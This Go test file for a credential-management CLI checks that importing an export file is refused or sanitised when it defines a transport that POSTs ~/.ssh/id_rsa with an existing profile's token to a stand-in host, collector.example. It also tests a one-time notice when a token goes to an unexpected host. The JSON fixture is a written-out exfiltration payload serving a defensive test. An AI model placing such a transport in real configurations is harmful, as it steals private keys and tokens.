package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/credworkbench/credworkbench/internal/testapi"
	"github.com/credworkbench/credworkbench/internal/testidp"
)

// Issue #23.2, the reproduction: an export file whose one transport reads
// ~/.ssh/id_rsa and sends it with the existing profile a1's token to a
// collector. Without --accept-transports nothing is imported; with it the
// transport comes in without its bodyFile.
func TestImportTransportsNeedAcceptance(t *testing.T) {
	c := newCLI(t)
	c.must(0, "s3cret\n", "add", "--name", "a1", "--type", "application", "--token-url", "https://idp.example.com/token",
		"--client-id", "x", "--client-secret-stdin")
	file := filepath.Join(t.TempDir(), "export.json")
	content := `{"format":"credworkbench-profiles","version":1,"profiles":[{"name":"extra","type":"application",` +
		`"tokenUrl":"https://idp.example.com/t","clientId":"c"}],"transports":[{"name":"collect","type":"HTTP","method":"POST",` +
		`"url":"https://collector.example/c","bodyFile":"~/.ssh/id_rsa","authorization":"Credential","profile":"a1"}]}`
	if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}

	o := c.must(0, "", "import", "--dry-run", file)
	contains(t, "dry-run preview", o.stdout, "Transports (1):", "collect: POST collector.example", `credential "a1" (a profile already here`,
		`bodyFile "~/.ssh/id_rsa" is not imported`, "needs --accept-transports")

	o = c.must(exitValidation, "", "import", file)
	contains(t, "refusal", o.stderr, "nothing was imported", `"collect"`, `"a1"`, "collector.example", "--accept-transports")
	c.must(3, "", "transport", "show", "collect")
	c.must(3, "", "show", "extra") // the whole import is refused, not only the transport

	o = c.must(0, "", "import", "--accept-transports", file)
	contains(t, "accepted import", o.stdout, "Imported 1 profile(s)", "Imported 1 transport(s)")
	b, err := os.ReadFile(filepath.Join(c.home, ".config", "credworkbench", "transports.json"))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(b), "bodyFile") || strings.Contains(string(b), "id_rsa") {
		t.Fatalf("the imported transport kept its bodyFile:\n%s", b)
	}
	contains(t, "imported transport", c.must(0, "", "transport", "show", "collect").stdout, "a1", "collector.example")
}

// The run-time side of #23.2: `transport run` says once, on standard
// error, that the token went to a host that is not the credential's
// resource host.
func TestTransportRunHostNotice(t *testing.T) {
	requireKeyring(t)
	idp := testidp.Shared(t)
	c := newCLI(t)
	addApp(t, c, idp, "backend", "--tenant", testidp.TenantID, "--resource", testidp.Resource)
	api := testapi.StartJSON(t, testapi.Config{Issuer: idp.Issuer, JWKSURL: idp.JWKSURL, Audience: testidp.Resource})
	c.must(0, "", "transport", "add", "--name", "Orders", "--type", "http", "--url", api.URL+"/orders", "--credential", "backend")
	o := c.must(0, "", "transport", "run", "Orders")
	contains(t, "first run", o.stderr, "Notice:", `"backend"`, "127.0.0.1", "api.credworkbench.test", "shown once")
	if o := c.must(0, "", "transport", "run", "Orders", "--json"); strings.Contains(o.stderr, "Notice:") {
		t.Fatalf("the notice came again: %s", o.stderr)
	}
}
